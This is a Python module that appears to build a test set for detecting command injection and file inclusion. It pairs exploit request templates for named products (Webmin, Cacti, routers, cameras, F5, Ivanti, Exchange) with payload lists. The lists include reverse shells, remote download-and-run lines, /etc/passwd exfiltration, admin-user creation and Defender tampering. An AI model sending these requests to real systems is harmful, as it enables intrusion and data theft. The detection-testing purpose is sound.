"""Blind set "hundredtwentyninth": OS command injection, local file inclusion / path traversal and remote file
inclusion, each payload the request a published exploit for a named product sends, with benign requests in which
the same product names, keywords and syntax appear innocently.

The angle: for each family, the request a real exploit for a real product sends (CVE advisories, exploit
write-ups, Metasploit- and nuclei-style templates, bug-bounty reports), rewritten from memory: Webmin, Cacti,
rConfig, OpenNetAdmin, Sar2HTML, Pandora FMS, pfSense, SaltStack, Apache Spark, Kylin, Airflow, Bitbucket, F5
BIG-IP, Palo Alto GlobalProtect, Ivanti Connect Secure, Zyxel, DrayTek, Cisco RV, TP-Link, Tenda, Netgear,
Linksys, D-Link, Huawei, Realtek, GPON, Hikvision, AVTECH, Vacron and MVPower devices, ThinkPHP, Drupal,
Jenkins, Apache Tomcat's CGIServlet, Rejetto HFS, PRTG, Exchange, Zabbix, Apache httpd, Nostromo, Grafana,
Flink, GlassFish, Openfire, Spring Cloud Config, Kibana, Cisco ASA, FortiOS, Pulse Secure, Citrix, phpMyAdmin,
WordPress plugins, Joomla components, ColdFusion, Zimbra, Horde, Laravel Ignition, Confluence, Solr, Jira,
WebLogic, Metabase, Druid, Oracle Reports, GitLab, Nexus, Serv-U, Rails and more, with the product's real
path, parameter names and request shape where remembered. The comment above each group names the product and
the vulnerability class (a CVE id only where the author is sure of it).

Families (`sub`, one per detection title):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-expression-evasion (quotes, ${IFS},
    globbing, brace expansion, variables), windows-cmd-injection, powershell, unix-command-names-with-paths,
    reverse-shells, shellshock, downloaders, file-write-via-shell, restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path; shellshock strings in headers and cookies), once as the product's exploit sends
it (placements prefixed "rs-"): to the product's own path with its fixed parameters and headers, the payload in
the product's parameter (rs-query, rs-form, rs-json with the exploit's nested document, rs-xml in the exploit's
SOAP / XML-RPC envelope), as the raw request path (rs-rawpath: the exploit's own percent-encoding, sent as is;
rs-path: the payload percent-encoded into a path segment), as the raw body (rs-raw-body), in the header or cookie
the exploit uses, or as a multipart file name or file content. The include-parameter family's payloads are
`name=value` pairs and go unquoted (rs-query-raw, param-name, form).

Authorship and independence: written for this repository from general knowledge of each product's published
exploit and the detection titles alone; no WAF rule, engine source, ruleset regression test, public payload
list or wordlist was read, and the product paths and parameter names are as remembered (they may differ in
detail from the advisories). Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any, NamedTuple

from .blind_placements import COOKIE_SAFE, FORM, BlindSet, header_safe, request, xml_escape
from .records import print_records

NAME = "hundredtwentyninth"


class T(NamedTuple):
    """Where a product's exploit puts the payload: the rs placement, the product's path, the parameter (or header,
    cookie, multipart field, or the characters a path placement leaves unquoted), fixed fields, headers, method,
    and a template (XML envelope with {v}, raw body, or multipart file content / file name)."""

    place: str
    path: str
    name: str = ""
    fields: tuple[tuple[str, Any], ...] = ()
    headers: tuple[tuple[str, str], ...] = ()
    method: str = ""
    tpl: str = ""


Entry = tuple[str, T]
Pairs = list[tuple[str, Any]]
Heads = list[tuple[str, str]]


def Q(path: str, name: str = "", fields: Pairs | None = None, headers: Heads | None = None,
      method: str = "GET") -> T:
    """The payload in a query parameter (name "" : the whole query string, as PHP-CGI and CGIServlet take it)."""
    return T("rs-query", path, name, tuple(fields or ()), tuple(headers or ()), method)


def F(path: str, name: str, fields: Pairs | None = None, headers: Heads | None = None, method: str = "POST") -> T:
    return T("rs-form", path, name, tuple(fields or ()), tuple(headers or ()), method)


def J(path: str, name: str, fields: Pairs | None = None, headers: Heads | None = None, method: str = "POST") -> T:
    """The payload at a dotted key of the exploit's JSON document (a trailing [] makes a list)."""
    return T("rs-json", path, name, tuple(fields or ()), tuple(headers or ()), method)


def X(path: str, tpl: str, headers: Heads | None = None, method: str = "POST") -> T:
    return T("rs-xml", path, "", (), tuple(headers or ()), method, tpl)


def RP(path: str = "", method: str = "GET", body: str = "", headers: Heads | None = None) -> T:
    """The payload is (or fills § in) the raw request path, sent exactly as written."""
    return T("rs-rawpath", path, "", (), tuple(headers or ()), method, body)


def EP(path: str, safe: str = "") -> T:
    """The payload percent-encoded into § of the path (characters in `safe` left as they are)."""
    return T("rs-path", path, safe)


def RB(path: str, content_type: str = "application/x-www-form-urlencoded", headers: Heads | None = None,
       tpl: str = "") -> T:
    return T("rs-raw-body", path, "", (), (("Content-Type", content_type), *(headers or ())), "POST", tpl)


def H(path: str, header: str, method: str = "GET") -> T:
    return T("rs-header", path, header, (), (), method)


def C(path: str, cookie: str) -> T:
    return T("rs-cookie", path, cookie)


def MF(path: str, field: str, content: str) -> T:
    """The payload as a multipart file name."""
    return T("rs-multipart-filename", path, field, tpl=content)


def MC(path: str, field: str, filename: str) -> T:
    """The payload as a multipart file's content."""
    return T("rs-multipart-content", path, field, tpl=filename)


def QR(path: str) -> T:
    """The payload is itself `name=value` and is appended to the query unquoted."""
    return T("rs-query-raw", path)


def on(target: T, payloads: list[str]) -> list[Entry]:
    return [(p, target) for p in payloads]


def _ps_enc(script: str) -> str:
    """PowerShell's -EncodedCommand: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# ----------------------------------------------------------------------------------------------------------------
# Product targets of the command injection exploits (path, parameter, fixed fields as remembered)
# Webmin 1.890-1.920 password_change.cgi backdoor, the `old` field reaches a shell (CVE-2019-15107)
WEBMIN = F("/password_change.cgi", "old",
           [("user", "rootxx"), ("pam", ""), ("expired", "2"), ("new1", "test2"), ("new2", "test2")],
           [("Referer", "https://192.0.2.10:10000/session_login.cgi")])
# Cacti 1.2.22 remote_agent.php polldata, poller_id into proc_open (CVE-2022-46169)
CACTI = Q("/remote_agent.php", "poller_id", [("action", "polldata"), ("local_data_ids[]", "6"), ("host_id", "1")],
          [("X-Forwarded-For", "127.0.0.1")])
# Sar2HTML 3.2.1 index.php plot parameter (unauthenticated command injection)
SAR2HTML = Q("/sar2html/index.php", "plot")
# OpenNetAdmin 18.1.1 xajax ping tooltip (unauthenticated command injection)
ONA = F("/ona/", "xajaxargs[]", [("xajax", "window_submit"), ("xajaxr", "1574117726710"),
                                 ("xajaxargs[]", "tooltips")])
# rConfig 3.9.2 ajaxServerSettingsChk.php rootUname (CVE-2019-16662)
RCONFIG = Q("/install/lib/ajaxHandlers/ajaxServerSettingsChk.php", "rootUname")
# GPON home routers diag_Form, auth bypass with ?images/ and dest_host injection (CVE-2018-10561 / CVE-2018-10562)
GPON = F("/GponForm/diag_Form?images/", "dest_host", [("XWebPageName", "diag"), ("diag_action", "ping"),
                                                      ("wan_conlist", "0"), ("ipv", "0")])
# Hikvision IP cameras /SDK/webLanguage, PUT of <language> (CVE-2021-36260)
HIKVISION = X("/SDK/webLanguage", '<?xml version="1.0" encoding="UTF-8"?><language>{v}</language>', method="PUT")
# TP-Link Archer AX21 locale country, unauthenticated (CVE-2023-1389)
TPLINK = Q("/cgi-bin/luci/;stok=/locale?form=country&operation=write", "country")
# Apache Spark UI with ACLs on, the doAs parameter reaches a shell (CVE-2022-33891)
SPARK = Q("/", "doAs")
# Apache Kylin diag endpoint, the project name in the path reaches a shell (CVE-2020-13925)
KYLIN = EP("/kylin/api/diag/project/§/download")
# ZeroShell kerbynet x509view, x509type with newlines (CVE-2019-12725)
ZEROSHELL = Q("/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=", "x509type")
# DrayTek Vigor mainfunction.cgi login keyPath (CVE-2020-8515)
DRAYTEK = F("/cgi-bin/mainfunction.cgi", "keyPath", [("action", "login"), ("loginUser", "a"), ("loginPwd", "a")])
# Zyxel firewalls /ztp/cgi-bin/handler setWanPortSt, the mtu field (CVE-2022-30525)
ZYXEL = J("/ztp/cgi-bin/handler", "mtu", [("command", "setWanPortSt"), ("proto", "dhcp"), ("port", "4"),
                                          ("vlan_tagged", "1"), ("vlanid", "5"), ("data", "hi")])
# Zyxel NAS weblogin.cgi username (CVE-2020-9054)
ZYXEL_NAS = Q("/adv,/cgi-bin/weblogin.cgi", "username", [("password", "asdf")])
# Tenda AC15 setUsbUnload deviceName (CVE-2020-10987)
TENDA = F("/goform/setUsbUnload/.js", "deviceName")
# Cisco RV320 certificate_handle2.htm common_name (CVE-2019-1652)
CISCO_RV = F("/certificate_handle2.htm?type=4", "common_name", [
    ("page", "self_generator.htm"), ("totalRules", "1"), ("OpenVPNRules", "30"), ("submitStatus", "1"),
    ("log_ch", "1"), ("type", "4"), ("Country", "A"), ("state", "A"), ("locality", "A"), ("organization", "A"),
    ("organization_unit", "A"), ("email", "ab@example.com"), ("KeySize", "512"), ("KeyLength", "1024"),
    ("valid_days", "30"), ("SelectSubject_c", "1"), ("SelectSubject_s", "1")])
# Bitbucket Server archive endpoint, git argument injection through NUL in prefix (CVE-2022-36804)
BITBUCKET = Q("/rest/api/latest/projects/PRJ/repos/app/archive", "prefix", [("filename", "app"), ("at", "main"),
                                                                             ("path", "app")])
# pfSense status_rrd_graph_img.php graph parameter (authenticated command injection)
PFSENSE = Q("/status_rrd_graph_img.php", "graph", [("database", "queues")])
# SaltStack salt-api /run with client=ssh, ssh_priv reaches a shell (CVE-2020-16846)
SALT = F("/run", "ssh_priv", [("client", "ssh"), ("tgt", "*"), ("fun", "a"), ("roster", "a")])
# Apache Airflow example_trigger_target_dag, the conf message reaches bash (CVE-2020-11978)
AIRFLOW = J("/api/experimental/dags/example_trigger_target_dag/dag_runs", "conf.message")
# AWStats 6.x configdir (CVE-2005-0116)
AWSTATS = Q("/cgi-bin/awstats.pl", "configdir")
# ImageMagick delegates through an MVG image uploaded as an avatar (ImageTragick, CVE-2016-3714)
IMAGETRAGICK = MC("/account/avatar", "avatar", "exploit.png")
# Pandora FMS 7.0NG events ajax, the target parameter of an event response
PANDORA = Q("/pandora_console/ajax.php", "target", [("page", "include/ajax/events"),
                                                    ("perform_event_response", "10000000"), ("response_id", "1")])
# Vacron NVR board.cgi cmd
VACRON = Q("/board.cgi", "cmd")
# AVTECH cameras CloudSetup.cgi exefile
AVTECH = Q("/cgi-bin/supervisor/CloudSetup.cgi", "exefile")
# MVPower / JAWS DVR /shell endpoint, the whole query string is run
MVPOWER = Q("/shell")
# Netgear DGN1000 setup.cgi syscmd, unauthenticated through currentsetting.htm
NETGEAR_DGN = Q("/setup.cgi", "cmd", [("next_file", "netgear.cfg"), ("todo", "syscmd"), ("curpath", "/"),
                                      ("currentsetting.htm", "1")])
# Netgear R7000 / R6400 httpd, the path after /cgi-bin/; runs (CVE-2016-6277)
NETGEAR_R7000 = EP("/cgi-bin/§", ";$")
# Linksys E-series tmUnblock.cgi ttcp_ip (the TheMoon worm)
LINKSYS_TM = F("/tmUnblock.cgi", "ttcp_ip", [("submit_button", ""), ("change_action", ""), ("action", ""),
                                             ("commit", "0"), ("StartEPI", "1")])
# Linksys E1500 / E2500 apply.cgi diagnostics ping_ip
LINKSYS_APPLY = F("/apply.cgi", "ping_ip", [("submit_button", "Diagnostics"), ("change_action", "gozila_cgi"),
                                            ("submit_type", "start_ping"), ("action", ""), ("commit", "0"),
                                            ("ping_size", "32"), ("ping_times", "5")])
# D-Link DSL-2750B login.cgi cli (unauthenticated command injection)
DLINK = Q("/login.cgi", "cli")
# Realtek SDK boa formPing target_addr (many OEM routers)
REALTEK_BOA = F("/boaform/admin/formPing", "target_addr", [("waninf", "1_INTERNET_R_VID_154")])
# ThinkPHP 5.0.x / 5.1.x invokefunction through the s= router (unauthenticated RCE)
THINKPHP = Q("/index.php", "vars[1][]", [("s", "/Index/\\think\\app/invokefunction"),
                                         ("function", "call_user_func_array"), ("vars[0]", "system")])
# Drupal 7/8 Drupalgeddon2, #post_render exec on the user register form (CVE-2018-7600)
DRUPAL = F("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
           "mail[#markup]", [("form_id", "user_register_form"), ("_drupal_ajax", "1"),
                             ("mail[#post_render][]", "exec"), ("mail[#type]", "markup")])
# Ruckus Wireless Admin doLogin password (CVE-2023-25717)
RUCKUS = Q("/forms/doLogin", "password", [("login_username", "admin")])
# Apache httpd 2.4.49 / 2.4.50 traversal to /bin/sh with mod_cgi on (CVE-2021-41773, CVE-2021-42013)
APACHE_41773 = RB("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "text/plain")
APACHE_42013 = RB("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh", "text/plain")
# Nostromo nhttpd 1.9.6 traversal to /bin/sh (CVE-2019-16278)
NOSTROMO = RB("/.%0d./.%0d./.%0d./.%0d./bin/sh", "text/plain")
# Huawei HG532 UPnP DeviceUpgrade NewStatusURL (CVE-2017-17215)
HUAWEI = X("/ctrlt/DeviceUpgrade_1",
           '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
           's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade '
           'xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>{v}</NewStatusURL>'
           '<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>',
           [("Authorization", 'Digest username="dslf-config", realm="HuaweiHomeGateway", '
                              'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
                              'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", '
                              'nc=00000001, cnonce="248d1a2560100669"')])
# Realtek SDK miniigd UPnP AddPortMapping NewInternalClient (CVE-2014-8361)
REALTEK_UPNP = X("/picsdesc.xml",
                 '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
                 's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping '
                 'xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost>'
                 '<NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol>'
                 '<NewInternalPort>44382</NewInternalPort><NewInternalClient>{v}</NewInternalClient>'
                 '<NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription>'
                 '<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>',
                 [("SOAPAction", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping")])
# Eir D1000 / Zyxel TR-064 SetNTPServers NewNTPServer1 (the 2016 Mirai variant)
EIR = X("/UD/act?1",
        '<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
        'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><SOAP-ENV:Body>'
        '<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>{v}</NewNTPServer1>'
        '<NewNTPServer2></NewNTPServer2><NewNTPServer3></NewNTPServer3><NewNTPServer4></NewNTPServer4>'
        '<NewNTPServer5></NewNTPServer5></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>',
        [("SOAPAction", "urn:dslforum-org:service:Time:1#SetNTPServers")])
# F5 BIG-IP iControl REST /mgmt/tm/util/bash, auth bypass (CVE-2022-1388)
F5_BASH = J("/mgmt/tm/util/bash", "utilCmdArgs", [("command", "run")],
            [("Authorization", "Basic YWRtaW46"), ("X-F5-Auth-Token", "a")])
# Western Digital My Book Live language_configuration (CVE-2018-18472)
WD_MBL = F("/api/1.0/rest/language_configuration", "language", method="PUT")
# Supervisor XML-RPC, the os.system reach through supervisord.options (CVE-2017-11610)
SUPERVISOR = X("/RPC2", '<?xml version="1.0"?><methodCall><methodName>supervisor.supervisord.options.warnings.'
                        'linecache.os.system</methodName><params><param><string>{v}</string></param></params>'
                        '</methodCall>', [("Content-Type", "text/xml")])
# Ivanti Connect Secure keys-status, auth bypass plus injection in the path (CVE-2023-46805 / CVE-2024-21887)
IVANTI = EP("/api/v1/totp/user-backup-code/../../license/keys-status/§")
# Palo Alto GlobalProtect SESSID file creation then telemetry cron (CVE-2024-3400)
PALO = C("/ssl-vpn/hipreport.esp", "SESSID")
# Jenkins script console (authenticated): Groovy runs an OS command
JENKINS_SCRIPT = F("/script", "script", [("Jenkins-Crumb", "4b1e9b2c8d7f6a5e")])
# elFinder PHP connector archive, zip argument injection through the archive name (CVE-2021-32682)
ELFINDER = Q("/php/connector.minimal.php", "name", [("cmd", "archive"), ("type", "application/zip"),
                                                    ("target", "l1_Lw"), ("targets[1]", "l1_Lw"),
                                                    ("targets[0]", "l1_c2hlbGwucGhw")])
# PHPMailer < 5.2.18 sender injected into sendmail's arguments through a contact form (CVE-2016-10033)
PHPMAILER = F("/contact.php", "email", [("action", "submit"), ("name", "Jas Fasola"), ("message", "Pwned")])
# Roundcube 1.2.2 _from injected into sendmail's arguments (CVE-2016-9920)
ROUNDCUBE = F("/?_task=mail&_action=send", "_from", [("_token", "3f8b1a9c"), ("_to", "victim@example.org"),
                                                      ("_subject", "hello"), ("_body", "hello")])
# Apache Tomcat CGIServlet on Windows with enableCmdLineArguments, the query string becomes arguments (CVE-2019-0232)
TOMCAT_CGI = Q("/cgi-bin/hello.bat")
# Rejetto HttpFileServer 2.3 search macro injection (CVE-2014-6287)
HFS = Q("/", "search")
# Rejetto HFS 2.3m template injection with the cmd parameter (CVE-2024-23692)
HFS_TPL = Q("/?n=%0A&cmd=ipconfig+/all", "search")
# a Windows web tool that hands the value to a .bat through spawn() (BatBadBut; Node.js CVE-2024-27980)
BATBADBUT = Q("/tools/convert", "input")
# Zabbix API item.create with a system.run key on an agent with remote commands enabled
ZABBIX = J("/api_jsonrpc.php", "params.key_", [("jsonrpc", "2.0"), ("method", "item.create"),
                                               ("params.name", "inventory"), ("params.hostid", "10084"),
                                               ("params.type", 0), ("params.value_type", 4),
                                               ("params.interfaceid", "1"), ("params.delay", "30s"),
                                               ("auth", "0424bd59b807674191e7d77572075f33"), ("id", 1)])
# PRTG Network Monitor notification "execute program" parameter reaching the demo .ps1 (CVE-2018-9276)
PRTG = F("/editsettings", "params", [("name_", "Notify"), ("active_", "1"), ("objecttype", "notification"),
                                     ("id", "new"), ("targeturl", "/myaccount.htm?tabid=2")])
# Exchange ProxyShell: PowerShell remoting through the autodiscover SSRF (CVE-2021-34473 / CVE-2021-34523)
EXCHANGE = X("/autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z"
             "TBRhZG1pbmlzdHJhdG9yQGNvcnAubG9jYWxVLFMtMS01LTIxLTMwMDAwMDAwMDAtNTAw&Email=autodiscover/"
             "autodiscover.json%3F@evil.example",
             '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
             'xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell"><s:Body><rsp:CommandLine>'
             '<rsp:Command>{v}</rsp:Command></rsp:CommandLine></s:Body></s:Envelope>',
             [("Content-Type", "application/soap+xml;charset=UTF-8")])

IP = "198.51.100.20"   # the attacker's listener / payload host in the command injection payloads
PS_CRADLE = _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')")
MVG = ("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/oops.jpg\"|id; \")'\n"
       "pop graphic-context")

# --- rce -------------------------------------------------------------------------------------------------------
# Command separators (; | || && ` $() newline) in the products' injectable parameters
RCE_SEPARATORS: list[Entry] = [
    ("test|id", WEBMIN),
    (";touch /tmp/cacti_poc", CACTI),
    (";uname -a", SAR2HTML),
    ('ip=>;echo "BEGIN";id;echo "END"', ONA),
    ("; whoami #", RCONFIG),
    ("`id`;", GPON),
    ("$(id>webLib/x)", HIKVISION),
    ("`touch /tmp/spark_doas`", SPARK),
    ("||id||", KYLIN),
    ("'\nid\n'", ZEROSHELL),
    ("; bash -c 'id > /tmp/z.txt';", ZYXEL),
    ("admin';sleep 10;'", ZYXEL_NAS),
    ("a'$(ping -c 4 198.51.100.7)'b", CISCO_RV),
    ("ax\0--exec=`id`\0--remote=origin", BITBUCKET),
    ("file|printf 'id'|sh|echo ", PFSENSE),
    ("|echo;id;echo|", AWSTATS),
    (MVG, IMAGETRAGICK),
    ("127.0.0.1 && cat /proc/version", REALTEK_BOA),
]
# Shell evasions the exploits and their testers use: ${IFS}, $IFS$9, quotes, backslashes, globbing, brace
# expansion, variables, printf / base64 / rev decoding, input redirection (busybox ash on devices, bash on servers)
RCE_EVASION: list[Entry] = [
    (";uname$IFS-a", NETGEAR_R7000),
    ("/../../../../opt/panlogs/tmp/device_telemetry/minute/`curl${IFS}c9x1.oast.example?u=$(whoami)`", PALO),
    ("'\n/bin/cat${IFS}/etc/passwd\n'", DRAYTEK),
    ("127.0.0.1;c''a\"\"t /e't'c/pa''ss\"\"wd", LINKSYS_APPLY),
    (";curl${IFS}-d${IFS}@/etc/passwd${IFS}198.51.100.44;", IVANTI),
    (";{cat,/etc/passwd}>/tmp/c.txt", CACTI),
    (";/???/c?t$IFS/???/p?ss??", SAR2HTML),
    ("; a=i;b=d;$a$b #", RCONFIG),
    (";w$@hoami", TENDA),
    ("aaa|cat${IFS}${HOME:0:1}etc${HOME:0:1}hostname;", SALT),
    ("; $(printf '\\151\\144');", ZYXEL),
    ("`echo${IFS}aWQ=|base64${IFS}-d|sh`", GPON),
    ("$(echo${IFS}imaohw|rev|sh)", TPLINK),
    ("ip=>;cat</etc/issue", ONA),
    ("x|cat$IFS$9/etc/shadow", WEBMIN),
    ("admin';w'h'o'am'i;'", ZYXEL_NAS),
    ("`X=$'\\x69\\x64';$X`", AIRFLOW),
    ("`{touch,/tmp/spark_brace}`", SPARK),
    ("||i\\d||", KYLIN),
]
# Windows cmd.exe: IIS 4/5 Unicode and double-decode traversal to cmd.exe, Tomcat CGIServlet arguments, HFS
# macros, .bat argument escaping (BatBadBut), ThinkPHP and Zabbix on Windows hosts
RCE_WINDOWS: list[Entry] = [
    ("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\", RP()),
    ("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir+c:\\", RP()),
    ("/msadc/..%c0%af../..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+type+c:\\boot.ini", RP()),
    ("/_vti_bin/..%c1%9c..%c1%9c..%c1%9cwinnt/system32/cmd.exe?/c+ver", RP()),
    ("&C:\\Windows\\System32\\whoami.exe", TOMCAT_CGI),
    ("&dir", TOMCAT_CGI),
    ("&type C:\\Windows\\win.ini", TOMCAT_CGI),
    ("&net user", TOMCAT_CGI),
    ("\0{.exec|cmd.exe /c whoami > c:\\users\\public\\w.txt.}", HFS),
    ("{.exec|cmd.exe /c net user hfs P@ssw0rd1 /add.}", HFS),
    ("\0{.exec|certutil.exe -urlcache -split -f http://198.51.100.9/nc.exe C:\\Users\\Public\\nc.exe.}", HFS),
    ("%xxx%url%:%password%}{.exec|{.?cmd.}|timeout=15|out=abc.}{.?n.}{.?n.}", HFS_TPL),
    ("cmd /c whoami & ipconfig /all", THINKPHP),
    ('"&calc.exe', BATBADBUT),
    ('x" & type C:\\inetpub\\wwwroot\\web.config & "', BATBADBUT),
    ('system.run[cmd.exe /c "whoami /priv"]', ZABBIX),
]
# PowerShell: PRTG's notification script, Exchange remoting cmdlets, HFS / CGIServlet / ThinkPHP / Zabbix
# launching powershell.exe (download cradles, -EncodedCommand, Defender tampering)
RCE_POWERSHELL: list[Entry] = [
    ("test.txt;Add-Content -Path C:\\Users\\Public\\prtg.txt -Value (whoami)", PRTG),
    ("test.txt;net user pentest P3nT3st! /add;net localgroup administrators pentest /add", PRTG),
    ("test.txt;Set-MpPreference -DisableRealtimeMonitoring $true", PRTG),
    ("test.txt;Start-Process cmd.exe -ArgumentList '/c whoami > C:\\inetpub\\wwwroot\\o.txt'", PRTG),
    ("test.txt;Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx | Out-File C:\\Users\\Public\\k.txt", PRTG),
    ("test.txt;Invoke-Expression ([System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
     + PS_CRADLE + "')))", PRTG),
    ("New-MailboxExportRequest -Mailbox administrator@corp.example -IncludeFolders '#Drafts#' -FilePath "
     "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx'", EXCHANGE),
    ("New-ManagementRoleAssignment -Role 'Mailbox Import Export' -User administrator@corp.example", EXCHANGE),
    ("Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false", EXCHANGE),
    ("{.exec|powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString("
     "'http://198.51.100.9/Invoke-PowerShellTcp.ps1')\".}", HFS),
    ("{.exec|powershell -ExecutionPolicy Bypass -File \\\\198.51.100.9\\share\\run.ps1.}", HFS),
    ("&powershell.exe -enc " + PS_CRADLE, TOMCAT_CGI),
    ('system.run[powershell -NoProfile -Command "Get-LocalUser | Format-Table"]', ZABBIX),
    ("system.run[powershell Add-MpPreference -ExclusionPath C:\\ProgramData]", ZABBIX),
    ('powershell -ep bypass -c "iwr http://198.51.100.9/a.exe -OutFile $env:TEMP\\a.exe; '
     'Start-Process $env:TEMP\\a.exe"', THINKPHP),
    ('powershell.exe -c "Invoke-WebRequest -Uri http://198.51.100.9/up -Method POST '
     '-InFile C:\\inetpub\\wwwroot\\web.config"', THINKPHP),
    ('"&powershell -c "[Net.ServicePointManager]::SecurityProtocol=3072;iex(irm http://198.51.100.9/r.ps1)"',
     BATBADBUT),
]
# Commands named by absolute path (/bin/sh, /usr/bin/id, /bin/busybox, /sbin/ifconfig): Apache 2.4.49/50 and
# Nostromo executing /bin/sh with the body as its script, router UPnP / TR-064 SOAP, DVR and camera CGIs,
# F5 iControl REST bash, Supervisor XML-RPC
RCE_PATHS: list[Entry] = [
    ("echo Content-Type: text/plain; echo; /usr/bin/id", APACHE_41773),
    ("echo;/bin/cat /etc/hostname", APACHE_42013),
    ("echo\necho\n/usr/bin/uname -a 2>&1", NOSTROMO),
    ("$(/bin/busybox wget -g 198.51.100.3 -l /tmp/.m -r /mips; /bin/busybox chmod 777 /tmp/.m; "
     "/tmp/.m huawei.rep)", HUAWEI),
    ("`cd /var; /bin/busybox tftp -g -r m -l .m 198.51.100.3; /bin/sh .m`", REALTEK_UPNP),
    ("`/bin/busybox telnetd -p 2323 -l /bin/sh`", EIR),
    ("/bin/cat /etc/passwd", PANDORA),
    ("/bin/ps w", VACRON),
    ("/bin/ls -la /mnt", AVTECH),
    ("/bin/busybox ps", MVPOWER),
    ("-c '/usr/bin/id; /bin/uname -a'", F5_BASH),
    ("-c '/sbin/ifconfig -a'", F5_BASH),
    ("en_US>`/usr/bin/id > /tmp/wd.txt`", WD_MBL),
    ("/usr/bin/id > /tmp/supervisor_poc", SUPERVISOR),
    ("`/usr/bin/touch /tmp/spark_path`", SPARK),
    ("; /usr/bin/python3 -c 'import os;os.system(\"id\")' #", RCONFIG),
    ("ip=>;/usr/bin/whoami", ONA),
]
# Reverse shells (bash /dev/tcp, nc, mkfifo, python, perl, php, ruby, socat, awk, telnet, ncat, PowerShell) in
# the same products' injection points
RCE_REVERSE: list[Entry] = [
    (f";bash -c 'bash -i >& /dev/tcp/{IP}/4444 0>&1'", CACTI),
    (f"x|bash -c 'exec bash -i &>/dev/tcp/{IP}/443 <&1'", WEBMIN),
    (";python -c 'import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
     f's.connect(("{IP}",4444));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),'
     "stderr=s.fileno())';", IVANTI),
    (f";nc -e /bin/sh {IP} 4444", TENDA),
    (f"; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {IP} 4444 >/tmp/f;", ZYXEL),
    (f"x|perl -e 'use Socket;$i=\"{IP}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
     'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");'
     "exec(\"/bin/sh -i\");};'", WEBMIN),
    (f"`socat tcp-connect:{IP}:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane`", SPARK),
    (f"; php -r '$sock=fsockopen(\"{IP}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");' #", RCONFIG),
    (f"`ruby -rsocket -e'f=TCPSocket.open(\"{IP}\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\","
     "f,f,f)'`", AIRFLOW),
    (f"`telnet {IP} 4444 | /bin/sh | telnet {IP} 4445`", EIR),
    (f"ip=>;awk 'BEGIN {{s = \"/inet/tcp/0/{IP}/4444\"; while(42) {{ do{{ printf \"shell>\" |& s; "
     's |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") '
     "close(s); }}' /dev/null", ONA),
    (f"aaa|python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{IP}\",4444));"
